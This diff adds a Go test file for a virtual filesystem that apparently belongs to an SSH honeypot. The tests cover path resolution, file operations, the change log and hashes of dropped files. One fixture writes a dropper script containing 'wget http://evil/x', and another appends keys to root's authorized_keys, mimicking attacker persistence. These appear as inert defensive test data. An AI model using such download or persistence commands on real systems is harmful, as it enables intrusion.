@@ -1,0 +1,266 @@
+package vfs
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"strings"
+	"testing"
+	"testing/quick"
+)
+
+func TestSeededLayout(t *testing.T) {
+	fs := New()
+	for _, p := range []string{"/", "/etc", "/tmp", "/root", "/proc/cpuinfo", "/etc/passwd", "/bin/busybox"} {
+		if !fs.Exists(p) {
+			t.Errorf("%s should exist in the seeded layout", p)
+		}
+	}
+	if fs.Changed() {
+		t.Error("seeding must not count as attacker change")
+	}
+	if fs.Cwd() != "/root" {
+		t.Errorf("cwd = %q", fs.Cwd())
+	}
+	content, err := fs.ReadFile("/etc/passwd")
+	if err != nil || !strings.Contains(string(content), "root:x:0:0") {
+		t.Errorf("passwd content: %q, %v", content, err)
+	}
+}
+
+func TestAbsResolution(t *testing.T) {
+	fs := New()
+	cases := map[string]string{
+		"":            "/root",
+		"~":           "/root",
+		"~/.ssh":      "/root/.ssh",
+		"/tmp/../etc": "/etc",
+		"x":           "/root/x",
+		"./y":         "/root/y",
+		"/a//b/./c":   "/a/b/c",
+	}
+	for in, want := range cases {
+		if got := fs.Abs(in); got != want {
+			t.Errorf("Abs(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if err := fs.Chdir("/tmp"); err != nil {
+		t.Fatal(err)
+	}
+	if got := fs.Abs("z"); got != "/tmp/z" {
+		t.Errorf("relative after chdir: %q", got)
+	}
+}
+
+func TestChdirErrors(t *testing.T) {
+	fs := New()
+	if err := fs.Chdir("/nonexistent"); !errors.Is(err, ErrNotExist) {
+		t.Errorf("err = %v", err)
+	}
+	if err := fs.Chdir("/etc/passwd"); !errors.Is(err, ErrNotDir) {
+		t.Errorf("err = %v", err)
+	}
+}
+
+func TestWriteReadAndHash(t *testing.T) {
+	fs := New()
+	content := []byte("#!/bin/sh\nwget http://evil/x\n")
+	if err := fs.WriteFile("/tmp/bins.sh", content); err != nil {
+		t.Fatal(err)
+	}
+	got, err := fs.ReadFile("/tmp/bins.sh")
+	if err != nil || string(got) != string(content) {
+		t.Fatalf("read back: %q, %v", got, err)
+	}
+	wantHash := sha256.Sum256(content)
+	h, ok := fs.HashOf("/tmp/bins.sh")
+	if !ok || h != hex.EncodeToString(wantHash[:]) {
+		t.Errorf("hash = %q ok=%v", h, ok)
+	}
+	if !fs.Changed() {
+		t.Error("write must mark change")
+	}
+	hashes := fs.DroppedHashes()
+	if len(hashes) != 1 || hashes[0] != h {
+		t.Errorf("dropped = %v", hashes)
+	}
+}
+
+func TestAppendFile(t *testing.T) {
+	fs := New()
+	if err := fs.AppendFile("/root/.ssh/authorized_keys", []byte("key1\n")); err != nil {
+		t.Fatal(err)
+	}
+	if err := fs.AppendFile("/root/.ssh/authorized_keys", []byte("key2\n")); err != nil {
+		t.Fatal(err)
+	}
+	content, _ := fs.ReadFile("/root/.ssh/authorized_keys")
+	if string(content) != "key1\nkey2\n" {
+		t.Errorf("content = %q", content)
+	}
+	// Two different contents -> two distinct dropped hashes.
+	if n := len(fs.DroppedHashes()); n != 2 {
+		t.Errorf("dropped hashes = %d, want 2", n)
+	}
+}
+
+func TestMkdirSemantics(t *testing.T) {
+	fs := New()
+	if err := fs.Mkdir("/tmp/a"); err != nil {
+		t.Fatal(err)
+	}
+	if err := fs.Mkdir("/tmp/a"); !errors.Is(err, ErrExist) {
+		t.Errorf("duplicate mkdir: %v", err)
+	}
+	if err := fs.Mkdir("/no/such/parent"); err == nil {
+		t.Error("mkdir without parent must fail")
+	}
+	if err := fs.MkdirAll("/deep/nested/dir"); err != nil {
+		t.Fatal(err)
+	}
+	if !fs.Exists("/deep/nested/dir") {
+		t.Error("MkdirAll failed")
+	}
+	if err := fs.MkdirAll("/etc/passwd"); !errors.Is(err, ErrNotDir) {
+		t.Errorf("MkdirAll over file: %v", err)
+	}
+}
+
+func TestRemove(t *testing.T) {
+	fs := New()
+	fs.WriteFile("/tmp/x", []byte("1"))
+	if err := fs.Remove("/tmp/x", false); err != nil {
+		t.Fatal(err)
+	}
+	if fs.Exists("/tmp/x") {
+		t.Error("file survived removal")
+	}
+	if err := fs.Remove("/tmp/x", false); !errors.Is(err, ErrNotExist) {
+		t.Errorf("double remove: %v", err)
+	}
+	// Non-empty dir requires recursive.
+	fs.MkdirAll("/tmp/d")
+	fs.WriteFile("/tmp/d/f", []byte("1"))
+	if err := fs.Remove("/tmp/d", false); err == nil {
+		t.Error("non-recursive removal of non-empty dir must fail")
+	}
+	if err := fs.Remove("/tmp/d", true); err != nil {
+		t.Fatal(err)
+	}
+	if err := fs.Remove("/", true); !errors.Is(err, ErrPermission) {
+		t.Errorf("removing / must be denied: %v", err)
+	}
+}
+
+func TestRename(t *testing.T) {
+	fs := New()
+	fs.WriteFile("/tmp/a", []byte("data"))
+	if err := fs.Rename("/tmp/a", "/tmp/b"); err != nil {
+		t.Fatal(err)
+	}
+	if fs.Exists("/tmp/a") || !fs.Exists("/tmp/b") {
+		t.Error("rename failed")
+	}
+	// Moving into a directory keeps the base name.
+	fs.MkdirAll("/tmp/dir")
+	if err := fs.Rename("/tmp/b", "/tmp/dir"); err != nil {
+		t.Fatal(err)
+	}
+	if !fs.Exists("/tmp/dir/b") {
+		t.Error("rename into dir failed")
+	}
+	if err := fs.Rename("/tmp/nope", "/tmp/x"); !errors.Is(err, ErrNotExist) {
+		t.Errorf("rename missing: %v", err)
+	}
+}
+
+func TestListSorted(t *testing.T) {
+	fs := New()
+	fs.WriteFile("/tmp/c", nil)
+	fs.WriteFile("/tmp/a", nil)
+	fs.WriteFile("/tmp/b", nil)
+	nodes, err := fs.List("/tmp")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, n := range nodes {
+		names = append(names, n.Name)
+	}
+	for i := 1; i < len(names); i++ {
+		if names[i-1] > names[i] {
+			t.Errorf("unsorted listing: %v", names)
+		}
+	}
+	// Listing a file returns the file itself.
+	nodes, err = fs.List("/etc/passwd")
+	if err != nil || len(nodes) != 1 || nodes[0].Name != "passwd" {
+		t.Errorf("List(file) = %v, %v", nodes, err)
+	}
+}
+
+func TestChangeLogKinds(t *testing.T) {
+	fs := New()
+	fs.WriteFile("/tmp/f", []byte("1")) // create
+	fs.WriteFile("/tmp/f", []byte("2")) // modify
+	fs.Chmod("/tmp/f", 0o777)           // chmod
+	fs.Remove("/tmp/f", false)          // delete
+	kinds := []ChangeKind{}
+	for _, c := range fs.Changes() {
+		kinds = append(kinds, c.Kind)
+	}
+	want := []ChangeKind{ChangeCreate, ChangeModify, ChangeChmod, ChangeDelete}
+	if len(kinds) != len(want) {
+		t.Fatalf("changes = %v", kinds)
+	}
+	for i := range want {
+		if kinds[i] != want[i] {
+			t.Errorf("change %d = %v, want %v", i, kinds[i], want[i])
+		}
+	}
+	for _, k := range want {
+		if k.String() == "unknown" {
+			t.Errorf("kind %d has no name", k)
+		}
+	}
+}
+
+func TestDroppedHashesDeduplicated(t *testing.T) {
+	fs := New()
+	fs.WriteFile("/tmp/a", []byte("same"))
+	fs.WriteFile("/tmp/b", []byte("same"))
+	fs.WriteFile("/tmp/c", []byte("different"))
+	if n := len(fs.DroppedHashes()); n != 2 {
+		t.Errorf("dropped hashes = %d, want 2 (content-deduplicated)", n)
+	}
+}
+
+func TestHashBytesMatchesWriteHash(t *testing.T) {
+	f := func(data []byte) bool {
+		fs := New()
+		if err := fs.WriteFile("/tmp/q", data); err != nil {
+			return false
+		}
+		h, ok := fs.HashOf("/tmp/q")
+		return ok && h == HashBytes(data)
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestWriteFileOntoDirectoryFails(t *testing.T) {
+	fs := New()
+	if err := fs.WriteFile("/tmp", []byte("x")); !errors.Is(err, ErrIsDir) {
+		t.Errorf("err = %v", err)
+	}
+	if _, err := fs.ReadFile("/tmp"); !errors.Is(err, ErrIsDir) {
+		t.Errorf("err = %v", err)
+	}
+}
+
+func BenchmarkNewSeededFS(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		New()
+	}
+}
